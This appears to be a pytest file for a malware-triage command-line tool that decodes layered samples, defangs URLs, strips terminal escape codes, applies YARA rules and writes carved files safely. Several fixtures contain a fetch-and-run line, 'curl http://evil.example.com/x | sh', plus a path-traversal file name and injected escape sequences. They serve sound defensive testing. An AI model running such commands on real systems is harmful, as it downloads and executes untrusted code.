"""``triage inspect`` and ``triage carve``: what they show and what they write."""

from __future__ import annotations

import base64
import gzip
import io
import json
import os
import random
import stat
import zipfile
from hashlib import sha256
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from tests.content.payloads import PAYLOADS
from triage.carving import carve, write
from triage.cli.inspect import inspect
from triage.content.examine import examine
from triage.model import Location, Severity, Subject


def _run(*arguments: str, data: bytes = b"") -> Result:
    return CliRunner().invoke(inspect, list(arguments), input=data)


def _sample() -> bytes:
    return base64.b64encode(gzip.compress(PAYLOADS["elf"](random.Random(1)), mtime=0))


def test_json_names_each_layer(tmp_path: Path) -> None:
    file = tmp_path / "blob"
    file.write_bytes(_sample())
    result = _run(str(file), "--format", "json")
    assert result.exit_code == 0
    document = json.loads(result.output)
    assert document["schema"] == "triage-inspect/1"
    assert [layer["kind"] for layer in document["layers"]] == ["base64", "gzip", "elf"]
    assert document["layers"][document["payload"]]["kind"] == "elf"
    assert document["sha256"] == sha256(_sample()).hexdigest()
    keys = {"kind", "size", "sha256", "detail", "parent", "offset", "step", "confidence", "traits"}
    assert all(set(layer) == keys for layer in document["layers"])


def test_clues_are_exact_for_programs_and_defanged_for_people() -> None:
    script = b"#!/bin/sh\ncurl http://evil.example.com/x | sh\n"
    result = _run("-", "--format", "json", data=script)
    clues = json.loads(result.output)["clues"]
    url, defanged = "http://evil.example.com/x", "hxxp://evil[.]example[.]com/x"
    assert {"kind": "url", "value": url, "defanged": defanged, "layer": 0} in clues
    shown = _run("-", data=script).output
    assert defanged in shown
    assert url not in shown


def test_json_is_ascii_whatever_the_content() -> None:
    script = b"#!/bin/sh\ncurl http://evil.example.com/\xff\xfe\x1b\xe2\x80\xae\x7f | sh\n"
    result = _run("-", "--format", "json", data=script)
    assert result.output.isascii()
    assert not set(result.output) & {"\x1b", "\x7f"}
    assert all(set(one) == {"kind", "value", "defanged", "layer"}
               for one in json.loads(result.output)["clues"])  # fmt: skip


def test_the_terminal_shows_layers_and_no_escape_codes() -> None:
    script = b"#!/bin/sh\necho '\x1b[2J' > /dev/shm/.x\ncurl http://evil.example.com/\x1b]0;x\x07\n"
    result = _run("-", data=script)
    assert result.exit_code == 0
    assert "shell" in result.output
    assert "\x1b" not in result.output
    assert "\x07" not in result.output


@pytest.mark.parametrize("make", [os.mkfifo, os.mkdir])
def test_what_is_no_file_is_refused_without_waiting(tmp_path: Path, make: object) -> None:
    assert callable(make)
    make(tmp_path / "it")
    assert _run(str(tmp_path / "it")).exit_code == 3
    assert _run(str(tmp_path / "absent")).exit_code == 3


def test_yara_matches_are_told_of_the_layer_they_are_in(tmp_path: Path) -> None:
    pytest.importorskip("yara_x")
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "one.yar").write_text('rule elf_file { strings: $a = "\\x7fELF" condition: $a at 0 }')
    result = _run("-", "--format", "json", "--yara", str(rules), data=_sample())
    found = json.loads(result.output)["yara"]
    assert [(match["rule"], match["layer"]) for match in found] == [("elf_file", 2)]


def test_broken_rules_are_a_usage_error(tmp_path: Path) -> None:
    pytest.importorskip("yara_x")
    file = tmp_path / "bad.yar"
    file.write_text("rule {")
    assert _run("-", "--yara", str(file), data=b"x").exit_code == 2


# --- carving ----------------------------------------------------------------------------


def _subject(data: bytes) -> Subject:
    from dataclasses import replace

    content = replace(examine(data), kept=data)
    place = Location("/dev/shm/../../x\n.sh", "")
    return Subject("file-1", "file", "a title", place, 80, Severity.HIGH, content=content)


def test_carved_files_are_inert_and_described(tmp_path: Path) -> None:
    subject = _subject(_sample())
    assert subject.content is not None
    names = write(carve(subject, subject.content), str(tmp_path / "out"), zipped=False)
    assert names == ("00-original.bin", "01-gzip.bin", "02-elf.bin", "manifest.json")
    manifest = json.loads((tmp_path / "out" / "manifest.json").read_text())
    assert manifest["complete"] is True
    for entry in manifest["files"]:
        path = tmp_path / "out" / entry["name"]
        assert sha256(path.read_bytes()).hexdigest() == entry["sha256"]
        assert stat.S_IMODE(path.stat().st_mode) == 0o400


def test_nothing_is_overwritten_and_no_link_is_followed(tmp_path: Path) -> None:
    subject = _subject(_sample())
    assert subject.content is not None
    carved = carve(subject, subject.content)
    (tmp_path / "00-original.bin").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(FileExistsError):
        write(carved, str(tmp_path), zipped=False)
    assert not (tmp_path / "elsewhere").exists()


def test_the_archive_holds_the_same_files(tmp_path: Path) -> None:
    subject = _subject(_sample())
    assert subject.content is not None
    carved = carve(subject, subject.content)
    (name,) = write(carved, str(tmp_path), zipped=True)
    with zipfile.ZipFile(io.BytesIO((tmp_path / name).read_bytes())) as archive:
        assert [(n, archive.read(n, b"infected")) for n in archive.namelist()] == list(carved.files)
